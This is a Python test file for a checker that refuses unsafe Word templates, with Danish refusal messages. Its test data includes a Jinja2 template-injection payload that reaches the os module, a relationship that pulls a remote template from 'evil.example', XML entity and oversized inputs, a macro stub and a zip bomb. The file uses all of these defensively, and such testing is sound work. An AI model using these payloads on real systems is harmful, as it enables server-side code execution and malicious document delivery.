"""A Word template is tried before it is used: what it may not hold is refused, with the reason in Danish."""

import io
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from docxtpl import DocxTemplate
from jinja2 import DictLoader, Environment

from documents.fields import KINDS, example_context, fields_for
from documents.templatecheck import check_template
from documents.templates import usual_structure
from documents.word import RefusedTemplateError, render
from documents.wordtemplates.build import built
from tests.documents.conftest import text_of
from tests.documents.constructs import DANGEROUS, VALUES, Thing

ATTACK = "{{ cycler.__init__.__globals__.os.mkdir(sti) }}"


@pytest.mark.parametrize("construct", [construct for construct, _ in DANGEROUS])
def test_a_dangerous_construct_is_refused_at_upload_and_again_when_filled(
    construct: str, word: Callable[..., bytes]
) -> None:
    template = word(construct)
    report = check_template(template, "notice")
    assert report.refusals
    assert not report.is_usable
    with pytest.raises(RefusedTemplateError):
        render(template, VALUES)


@pytest.mark.parametrize(("construct", "shown"), DANGEROUS)
def test_jinja_as_it_comes_runs_the_same_construct(construct: str, shown: str) -> None:
    """Otherwise the refusals would prove nothing."""
    plain = Environment(loader=DictLoader({"x": "{% macro y() %}{% endmacro %}hentet"}))  # noqa: S701
    assert shown in plain.from_string(construct).render({**VALUES, "felt": Thing()})


@pytest.mark.parametrize("place", ["header", "footer", "title"])
def test_header_footer_and_title_stand_under_the_same_rules(place: str, word: Callable[..., bytes]) -> None:
    assert check_template(word("x", **{place: ATTACK}), "notice").refusals
    assert not check_template(word("x", **{place: "{{ sag_nr }}"}), "notice").refusals


def test_the_attack_is_a_real_one(word: Callable[..., bytes], tmp_path: Path) -> None:
    """Without our sandbox the same template makes a folder on the server."""
    made = tmp_path / "made-by-a-template"
    DocxTemplate(io.BytesIO(word(ATTACK))).render({"sti": os.fspath(made)})
    assert made.is_dir()


def test_a_name_of_the_context_is_never_an_attribute(word: Callable[..., bytes]) -> None:
    template = word("{{ aftale.items }} {{ aftale.values }}")
    assert "ting værdier" in text_of(render(template, {"aftale": {"items": "ting", "values": "værdier"}}))


@pytest.mark.parametrize("kind", KINDS)
def test_the_shipped_templates_pass_and_use_every_field(kind: str) -> None:
    report = check_template(built(kind), kind, usual_structure(kind))
    assert report.is_usable
    assert report.unused == ()
    assert report.trial


@pytest.mark.parametrize("kind", KINDS)
def test_every_field_is_explained_with_an_example(kind: str) -> None:
    assert all(field.explanation and field.path for field in fields_for(kind))
    assert example_context(kind)


def test_unknown_and_missing_fields_are_listed(word: Callable[..., bytes]) -> None:
    report = check_template(word("{{ sag_nr }} {{ request.user.password }} {{ leverandor }}"), "notice")
    assert report.unknown == ("leverandor", "request.user.password")
    assert "svarfrist" in report.missing
    assert "sag_nr" not in report.missing
    assert "modtager" in report.unused
    assert report.trial is None


def test_a_misspelt_field_is_told_in_danish(word: Callable[..., bytes]) -> None:
    assert "skrevet forkert" in check_template(word("{% if sag_nr %}"), "notice").refusals[0]


def changed(
    template: bytes, changes: dict[str, bytes], replace: tuple[str, bytes, bytes] | None = None
) -> bytes:
    """The package with parts added, or with one part's bytes replaced."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package,
    ):
        for name in source.namelist():
            content = source.read(name)
            if replace and name == replace[0]:
                assert replace[1] in content
                content = content.replace(replace[1], replace[2])
            if name not in changes:
                package.writestr(name, content)
        for name, content in changes.items():
            package.writestr(name, content)
    return out.getvalue()


def test_a_template_that_fetches_from_outside_is_refused(word: Callable[..., bytes]) -> None:
    relation = (
        b'<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/x.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    outside = changed(word("x"), {}, ("word/_rels/document.xml.rels", b"</Relationships>", relation))
    assert "uden for filen" in check_template(outside, "notice").refusals[0]
    link = relation.replace(b"attachedTemplate", b"hyperlink")
    harmless = changed(word("x"), {}, ("word/_rels/document.xml.rels", b"</Relationships>", link))
    assert not check_template(harmless, "notice").refusals


def test_macros_entities_and_bombs_are_refused(word: Callable[..., bytes]) -> None:
    plain = word("x")
    with_macros = changed(plain, {"word/vbaProject.bin": b"x"})
    assert "makroer" in check_template(with_macros, "notice").refusals[0]
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    assert "XML" in check_template(changed(plain, {"customXml/item9.xml": entity}), "notice").refusals[0]
    padded = b'<?xml version="1.0"?><!--' + b"x" * 200_000 + b"--><!DOCTYPE a><a/>"
    assert "XML" in check_template(changed(plain, {"customXml/item9.xml": padded}), "notice").refusals[0]
    bomb = changed(plain, {"word/media/a.bin": bytes(60_000_000)})
    assert "pakke" in check_template(bomb, "notice").refusals[0]
    assert not check_template(plain, "notice").refusals


def test_a_field_in_a_comment_is_refused_as_it_would_not_be_filled() -> None:
    document, out = Document(), io.BytesIO()
    paragraph = document.add_paragraph("x")
    document.add_comment(paragraph.runs, text="{{ sag_nr }}")
    document.save(out)
    problem = check_template(out.getvalue(), "notice").problems[0]
    assert problem.where == "Kommentarer"
    assert "{{ sag_nr }} står et sted, hvor det ikke bliver udfyldt" in problem.text


def test_something_else_than_word_is_refused() -> None:
    assert check_template(b"%PDF-1.7", "notice").refusals == (
        "Skabelonen er ikke et Word-dokument. Gem den som .docx, og send den igen.",
    )
